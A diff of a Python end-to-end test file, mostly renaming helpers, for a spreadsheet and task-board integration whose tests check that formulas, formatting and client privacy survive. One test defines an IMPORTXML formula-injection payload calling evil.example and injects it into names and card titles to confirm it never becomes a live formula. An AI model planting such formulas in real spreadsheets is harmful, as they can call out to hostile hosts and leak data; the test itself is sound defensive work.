@@ -6,19 +6,20 @@ import json
 import re
 from typing import Any
 
-from tests.e2e.failures.scene import (
+from tests.e2e.failures.helpers import (
     BACKLOG,
     cells_of,
     formulas_of,
-    in_work,
     move_card,
-    raw,
-    send,
+    put_in_progress,
+    read_raw,
+    send_requests,
     sheet_of,
-    start,
+    start_period,
 )
+from tests.harness.assertions import assert_answer
 from tests.harness.office import MANAGER, TEAM, WEBHOOK_SECRET, Office
-from tests.harness.witness import FIELDS, assert_told, difference
+from tests.harness.snapshots import FIELDS, difference
 
 EVIL = '=IMPORTXML("http://evil.example";"//a")'
 
@@ -45,7 +46,7 @@ def people_write_formulas(office: Office) -> None:
     book = office.book()
     for key in ("backlog", "in_progress"):
         wider = {"sheetId": book.tab(key).sheet_id, "dimension": "COLUMNS", "length": 4}
-        send(office, {"appendDimension": wider})
+        send_requests(office, {"appendDimension": wider})
     for title, formulas in FORMULAS.items():
         typed = ({"sheet": title, "cell": cell, "text": text} for cell, text in formulas.items())
         office.edit(*({"type": "type", **one} for one in typed))
@@ -54,7 +55,7 @@ def people_write_formulas(office: Office) -> None:
 
 def own_formulas(office: Office) -> list[tuple[str, int, str]]:
     """People's formulas with tab and column; rows are counted from the formula's own, except the first."""
-    resource = raw(office)
+    resource = read_raw(office)
     return sorted(
         (
             title,
@@ -76,7 +77,7 @@ def test_failure_08_formulas_of_people_survive_every_command(office: Office) -> 
 
     assert office.do("estimate")["outcome"] == "partial"
     assert own_formulas(office) == before
-    start(office)
+    start_period(office)
     assert own_formulas(office) == before
     assert office.do("push")["outcome"] == "done"
     move_card(office, "Статья", 1)
@@ -85,7 +86,7 @@ def test_failure_08_formulas_of_people_survive_every_command(office: Office) -> 
     assert office.do("estimate")["outcome"] == "partial"
 
     assert own_formulas(office) == before
-    everything = raw(office)
+    everything = read_raw(office)
     backlog, work, client = (
         cells_of(sheet_of(everything, title)) for title in ("Бэклог", "В работе", "Клиент")
     )
@@ -107,7 +108,7 @@ OWNED = {
 def decorate(office: Office) -> None:
     """Colours, widths, notes, choices, rules and freezes of people's own."""
     for title in ("Бэклог", "В работе"):
-        sheet_id = sheet_of(raw(office), title)["properties"]["sheetId"]
+        sheet_id = sheet_of(read_raw(office), title)["properties"]["sheetId"]
         area = {"sheetId": sheet_id, "startRowIndex": 1, "endRowIndex": 4}
         rule = {
             "ranges": [{**area, "startColumnIndex": 2, "endColumnIndex": 3}],
@@ -123,7 +124,7 @@ def decorate(office: Office) -> None:
             "strict": False,
         }
         frozen = {"sheetId": sheet_id, "gridProperties": {"frozenRowCount": 1, "frozenColumnCount": 3}}
-        send(
+        send_requests(
             office,
             {"addConditionalFormatRule": {"rule": rule, "index": 0}},
             {
@@ -155,7 +156,7 @@ def outside_owned_cells(office: Office) -> dict[str, Any]:
     ranges = [
         f"'{title}'!A1:{last}12" for title, last in (("Бэклог", "P"), ("В работе", "M"), ("Готово", "I"))
     ]
-    resource = raw(office, fields=FIELDS, ranges=ranges)
+    resource = read_raw(office, fields=FIELDS, ranges=ranges)
     del resource["developerMetadata"]
     book = office.book()
     free = {
@@ -194,11 +195,11 @@ def test_failure_09_formats_rules_and_notes_are_never_touched(office: Office) ->
 
     looks = looks_by_task(office)
     properties = {
-        one["properties"]["title"]: one["properties"]["gridProperties"] for one in raw(office)["sheets"]
+        one["properties"]["title"]: one["properties"]["gridProperties"] for one in read_raw(office)["sheets"]
     }
-    start(office)
+    start_period(office)
     assert looks_by_task(office) == {"Неясная": looks["Неясная"]}
-    for sheet in raw(office)["sheets"]:
+    for sheet in read_raw(office)["sheets"]:
         title, grid = sheet["properties"]["title"], sheet["properties"]["gridProperties"]
         for key in ("frozenRowCount", "frozenColumnCount", "columnCount"):
             assert grid.get(key) == properties.get(title, grid).get(key), (title, key)
@@ -217,7 +218,7 @@ def looks_by_task(office: Office) -> dict[str, list[Any]]:
     tab = office.book().tab("backlog")
     own = {tab.columns[column] for column in OWNED["backlog"]}
     rows: dict[int, list[Any]] = {}
-    cells = cells_of(sheet_of(raw(office, fields=FIELDS, ranges=[f"'{tab.title}'!A1:O12"]), tab.title))
+    cells = cells_of(sheet_of(read_raw(office, fields=FIELDS, ranges=[f"'{tab.title}'!A1:O12"]), tab.title))
     for (row, column), cell in cells.items():
         if column not in own:
             kept = {
@@ -245,10 +246,10 @@ def test_failure_16_a_guest_finds_nothing_internal(office: Office) -> None:
     """No cell, note, hidden thing, metadata, name, protection or property speaks of others or of secrets."""
     assert office.agency is not None
     office.create_client(client_name="Стоматология «Улыбка»", project_name="Реклама", code="УЛБ")
-    in_work(office, {"task": "Тайный заказ", "work_type": "Лендинг", "hours_development": "33"})
+    put_in_progress(office, {"task": "Тайный заказ", "work_type": "Лендинг", "hours_development": "33"})
     other_id = office.client_id
     office.create_client(client_name="Кофейня", project_name="Меню", code="КФН")
-    in_work(office, *BACKLOG, {"task": "Не влезет", "hours_development": "30"})
+    put_in_progress(office, *BACKLOG, {"task": "Не влезет", "hours_development": "30"})
     move_card(office, "Статья", 3)
     office.kaiten("POST", f"/cards/{office.cards()[0]['id']}/comments", text="Клиент зануда")
     office.settle()
@@ -270,7 +271,7 @@ def test_failure_16_a_guest_finds_nothing_internal(office: Office) -> None:
         for one in everything["sheets"]
     }
     ranges = [f"'{title}'!1:{min(rows, 5)}" for title, rows in sizes.items()]
-    choices = raw(office, fields=CHOICES, ranges=ranges)
+    choices = read_raw(office, fields=CHOICES, ranges=ranges)
     seen = json.dumps([everything, choices, file], ensure_ascii=False)
 
     others = ("Улыбка", "УЛБ", "Тайный", "Реклама", other_id, "Заря", "ЗРН")
@@ -293,21 +294,21 @@ def test_failure_17_text_from_outside_is_never_a_formula(office: Office) -> None
     tab = office.book(agency_id).tab("specialists")
     start_at = {"sheetId": tab.sheet_id, "rowIndex": tab.header_index + 1, "columnIndex": tab.column("name")}
     name = {"rows": [{"values": [{"userEnteredValue": {"stringValue": EVIL}}]}], "fields": "userEnteredValue"}
-    send(office, {"updateCells": {"start": start_at, **name}}, spreadsheet_id=agency_id)
+    send_requests(office, {"updateCells": {"start": start_at, **name}}, spreadsheet_id=agency_id)
     office.create_client(client_name=EVIL, project_name="=1+1", code="ЗЛО", responsible="@SUM(1)")
     # Pasted: what is typed with an equals sign in front is a formula of the person who types it.
     office.paste_backlog(
         [{"task": EVIL, "result": "=A1", "hours.design": 2.0}, {"task": "+7 (495)", "work_type": "-1+1"}]
     )
 
-    in_work(office)
+    put_in_progress(office)
     [card] = [one for one in office.cards() if EVIL in one["title"]]
     office.kaiten("PATCH", f"/cards/{card['id']}", title=EVIL, asap=True)
     office.settle()
-    assert_told(office.do("refresh"), "done", 200)
+    assert_answer(office.do("refresh"), "done", 200)
 
     for book_id in (office.client_id, agency_id):
-        for sheet in raw(office, book_id)["sheets"]:
+        for sheet in read_raw(office, book_id)["sheets"]:
             for place, formula in formulas_of(sheet).items():
                 assert "IMPORTXML" not in formula, (sheet["properties"]["title"], place)
                 assert formula not in ("=1+1", "=A1"), (sheet["properties"]["title"], place)
